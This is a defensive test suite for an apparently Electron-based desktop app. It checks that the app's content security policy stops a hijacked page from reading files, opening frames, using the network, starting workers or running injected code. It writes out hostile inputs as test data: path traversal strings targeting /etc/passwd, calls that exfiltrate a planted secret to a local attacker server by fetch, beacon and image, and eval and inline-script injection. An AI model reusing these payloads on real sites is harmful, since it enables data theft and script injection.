// One of our own pages, taken over, tries what a page's policy decides: files, frames, the network, workers, text as code. The
// same policy on every host; a server that only an attack would reach logs every connection, and its log stays empty.
import { afterAll, beforeAll, beforeEach, expect } from 'vitest';
import { attacks, planted, refusedBy, sitAlone, take } from './desk/hostile.ts';
import { startAttacker, type Attacker } from './desk/hostile-server.ts';
import { alone, desktop } from './desk/shell.ts';
import { spec } from './desk/spec.ts';

attacks('a page taken over meets the policy', alone, (desk) => {
  let attacker: Attacker;
  beforeAll(async () => {
    attacker = await startAttacker();
    await sitAlone(desk().page);
  });
  afterAll(() => attacker?.close());
  // What one attack reached is its own failure, not the next one's.
  beforeEach(() => void attacker.take());

  spec('no file: what is outside the built pages has no address', async () => {
    const statuses = await take(desk().page, async () => {
      const found: string[] = [];
      for (const path of [
        '/../package.json',
        '/..%2f..%2fpackage.json',
        '/%2e%2e/%2e%2e/package.json',
        '//etc/passwd',
        '/..\\..\\package.json',
        '/index.html%00.js',
        '/desk/desk.mjs',
        '/electron/main.mjs',
        'file:///etc/passwd',
      ]) {
        const answer = await fetch(path).catch(() => null);
        if (answer?.ok === true) found.push(path);
      }
      return found;
    });
    expect(statuses).toEqual([]);
  });

  // Whether a frame has a bridge is the stand-in's own word.
  spec(
    'no frame: the policy refuses every kind, and one that is empty has no bridge',
    { emulated: true },
    async () => {
      const { page } = desk();
      let bridges: string[] = [];
      const policy = await refusedBy(page, async () => {
        bridges = await take(
          page,
          async (origin) => {
            const found: string[] = [];
            const blob = URL.createObjectURL(
              new Blob(['<script>parent.reached = true</script>'], { type: 'text/html' }),
            );
            for (const [kind, src] of [
              ['attacker', `${origin}/frame`],
              ['data', 'data:text/html,<script>parent.reached=true</script>'],
              ['blob', blob],
              ['own', '/index.html'],
              ['blank', 'about:blank'],
            ] as const)
              for (const sandbox of [null, 'allow-scripts allow-same-origin allow-top-navigation']) {
                const frame = document.createElement('iframe');
                if (sandbox !== null) frame.sandbox.value = sandbox;
                frame.src = src;
                document.body.append(frame);
                await new Promise((later) => setTimeout(later, 60));
                try {
                  if ((frame.contentWindow as unknown as { careline?: unknown }).careline !== undefined)
                    found.push(kind);
                } catch {
                  // Of another origin, as an error page is: out of reach, and so is the bridge.
                }
                frame.remove();
              }
            for (const name of ['object', 'embed'] as const) {
              const element = document.createElement(name);
              try {
                element.setAttribute(name === 'object' ? 'data' : 'src', `${origin}/${name}`);
              } catch {
                // Refused as an address that would become a script: as good.
                continue;
              }
              document.body.append(element);
              await new Promise((later) => setTimeout(later, 60));
              element.remove();
            }
            return 'reached' in globalThis ? [...found, 'script'] : found;
          },
          attacker.origin,
        );
      });
      expect(policy).toEqual(expect.arrayContaining(['frame-src', 'require-trusted-types-for']));
      expect(bridges).toEqual([]);
      expect(attacker.log).toEqual([]);
    },
  );

  spec('no network: every way that sends or fetches is refused by the policy', async () => {
    const { page } = desk();
    let reached: string[] = [];
    const policy = await refusedBy(page, async () => {
      reached = await take(
        page,
        async ({ origin, secret }) => {
          const done: string[] = [];
          const socket = origin.replace('http', 'ws');
          const tries: Record<string, () => Promise<unknown>> = {
            fetch: () => fetch(`${origin}/fetch?${secret}`, { mode: 'no-cors' }),
            post: () => fetch(`${origin}/post`, { method: 'POST', body: secret, mode: 'no-cors' }),
            keepalive: () => fetch(`${origin}/keepalive`, { keepalive: true, mode: 'no-cors' }),
            xhr: () =>
              new Promise((resolve, reject) => {
                const request = new XMLHttpRequest();
                request.onload = resolve;
                request.onerror = reject;
                request.open('GET', `${origin}/xhr`);
                request.send();
              }),
            socket: () =>
              new Promise((resolve, reject) => {
                const made = new WebSocket(`${socket}/socket`);
                made.onopen = resolve;
                made.onerror = reject;
              }),
            events: () =>
              new Promise((resolve, reject) => {
                const made = new EventSource(`${origin}/events`);
                made.onopen = resolve;
                made.onerror = () => {
                  made.close();
                  reject(new Error('refused'));
                };
              }),
            font: () => new FontFace('lure', `url(${origin}/font.woff2)`).load(),
          };
          for (const [name, go] of Object.entries(tries)) {
            const answer = await Promise.race([
              go().then(
                () => 'reached',
                () => 'refused',
              ),
              new Promise<string>((late) => setTimeout(() => late('silent'), 3000)),
            ]);
            if (answer === 'reached') done.push(name);
          }
          navigator.sendBeacon(`${origin}/beacon`, secret);
          for (const [name, key] of [
            ['img', 'src'],
            ['script', 'src'],
            ['audio', 'src'],
            ['video', 'poster'],
            ['link', 'href'],
          ] as const) {
            const element = document.createElement(name);
            if (name === 'link') element.setAttribute('rel', 'stylesheet');
            try {
              element.setAttribute(key, `${origin}/${name}.${name === 'script' ? 'js' : 'x'}?${secret}`);
            } catch {
              continue;
            }
            document.head.append(element);
          }
          document.body.style.setProperty('background-image', `url(${origin}/background?${secret})`);
          await new Promise((later) => setTimeout(later, 200));
          document.body.style.removeProperty('background-image');
          return done;
        },
        { origin: attacker.origin, secret: planted },
      );
    });
    expect(reached).toEqual([]);
    expect(policy).toEqual(
      expect.arrayContaining(['connect-src', 'font-src', 'img-src', 'media-src', 'style-src-elem']),
    );
    expect(attacker.log).toEqual([]);
  });

  spec('no hint: prefetch, preconnect and what is told beforehand reach nobody', async () => {
    await take(
      desk().page,
      async (origin) => {
        for (const rel of [
          'prefetch',
          'preload',
          'modulepreload',
          'preconnect',
          'prerender',
          'icon',
          'manifest',
        ]) {
          const link = document.createElement('link');
          link.rel = rel;
          if (rel === 'preload') link.as = 'fetch';
          link.href = `${origin}/${rel}`;
          document.head.append(link);
        }
        const rules = document.createElement('script');
        rules.type = 'speculationrules';
        try {
          rules.textContent = JSON.stringify({
            prefetch: [{ source: 'list', urls: [`${origin}/speculation`] }],
          });
          document.head.append(rules);
        } catch {
          // Refused as a text that would become a script.
        }
        await new Promise((later) => setTimeout(later, 1000));
      },
      attacker.origin,
    );
    expect(attacker.log).toEqual([]);
  });

  spec('no peer: WebRTC sends nothing, by UDP or TCP', desktop, async () => {
    const candidates = await take(
      desk().page,
      async (port) => {
        const found: string[] = [];
        const peer = new RTCPeerConnection({
          iceServers: [
            { urls: `stun:127.0.0.1:${port}` },
            { urls: `turn:127.0.0.1:${port}?transport=udp`, username: 'u', credential: 'p' },
            { urls: `turn:127.0.0.1:${port}?transport=tcp`, username: 'u', credential: 'p' },
          ],
        });
        peer.onicecandidate = ({ candidate }) => candidate && found.push(candidate.candidate);
        peer.createDataChannel('out');
        await peer.setLocalDescription(await peer.createOffer());
        await new Promise((later) => setTimeout(later, 1500));
        peer.close();
        return found;
      },
      attacker.port,
    );
    expect({ candidates, log: attacker.log }).toEqual({ candidates: [], log: [] });
  });

  spec('no worker: not one of its own, not one of the attacker’s, no service worker', async () => {
    const { page } = desk();
    let started: string[] = [];
    const policy = await refusedBy(page, async () => {
      started = await take(
        page,
        async (origin) => {
          const done: string[] = [];
          const blob = URL.createObjectURL(new Blob(['postMessage(1)'], { type: 'text/javascript' }));
          for (const [name, make] of Object.entries({
            blob: () => new Worker(blob),
            data: () => new Worker('data:text/javascript,postMessage(1)'),
            attacker: () => new Worker(`${origin}/worker.js`),
            shared: () => new SharedWorker(blob) as unknown as Worker,
          })) {
            try {
              const worker = make();
              const answer = await Promise.race([
                new Promise<string>((resolve) => {
                  worker.onmessage = () => resolve('started');
                  worker.onerror = () => resolve('refused');
                }),
                new Promise<string>((late) => setTimeout(() => late('silent'), 500)),
              ]);
              if (answer === 'started') done.push(name);
            } catch {
              // Refused at once.
            }
          }
          const registered = await navigator.serviceWorker?.register('/sw.js').then(
            () => true,
            () => false,
          );
          return registered === true ? [...done, 'service'] : done;
        },
        attacker.origin,
      );
    });
    expect(started).toEqual([]);
    // Text for a worker's address is refused before the policy on workers is asked.
    expect(policy.length).toBeGreaterThan(0);
    expect(attacker.log).toEqual([]);
  });

  spec('no text becomes code: inline, eval, handlers, markup, a guessed nonce', async () => {
    const { page } = desk();
    let ran: string[] = [];
    const policy = await refusedBy(page, async () => {
      ran = await take(page, async () => {
        const done: string[] = [];
        const mark = (name: string): string => `globalThis.ran = [...(globalThis.ran ?? []), '${name}']`;
        const tries: Record<string, () => unknown> = {
          eval: () => Reflect.apply(Reflect.get(globalThis, 'eval') as () => void, null, [mark('eval')]),
          function: () => new Function(mark('function'))(),
          timer: () => setTimeout(mark('timer')),
          markup: () => (
            document.body.insertAdjacentHTML('beforeend', `<img src="x:" onerror="${mark('markup')}">`),
            0
          ),
          write: () => document.write(`<script>${mark('write')}</script>`),
          parser: () => document.body.append(new DOMParser().parseFromString('<b>x</b>', 'text/html').body),
          inline: () => {
            const script = document.createElement('script');
            script.nonce = document.querySelector<HTMLElement>('[nonce]')?.nonce ?? 'guess';
            script.append(document.createTextNode(mark('inline')));
            document.body.append(script);
          },
          handler: () => {
            const element = document.createElement('b');
            element.setAttribute('onclick', mark('handler'));
            document.body.append(element);
            element.click();
            element.remove();
          },
          policy: () =>
            (
              globalThis as unknown as {
                trustedTypes: { createPolicy(name: string, rules: object): unknown };
              }
            ).trustedTypes.createPolicy('own', { createHTML: (text: string) => text }),
        };
        for (const [name, go] of Object.entries(tries)) {
          try {
            go();
            if (name === 'policy') done.push(name);
          } catch {
            // As it should be.
          }
        }
        const style = document.createElement('style');
        style.nonce = 'guess';
        style.append('html { --injected: 1 }');
        document.head.append(style);
        const base = document.createElement('base');
        base.href = 'https://attacker.invalid/';
        document.head.append(base);
        await new Promise((later) => setTimeout(later, 100));
        if (getComputedStyle(document.documentElement).getPropertyValue('--injected') !== '')
          done.push('style');
        if (!document.baseURI.startsWith(location.origin)) done.push('base');
        style.remove();
        base.remove();
        return [...done, ...((globalThis as unknown as { ran?: string[] }).ran ?? [])];
      });
    });
    expect(ran).toEqual([]);
    expect(policy).toEqual(
      expect.arrayContaining(['base-uri', 'require-trusted-types-for', 'style-src-elem', 'trusted-types']),
    );
  });

  spec('nothing that the attacks said stands in a log', () => {
    expect(desk().output()).not.toContain(planted);
    expect(desk().output()).not.toContain(`127.0.0.1:${attacker.port}`);
  });
});
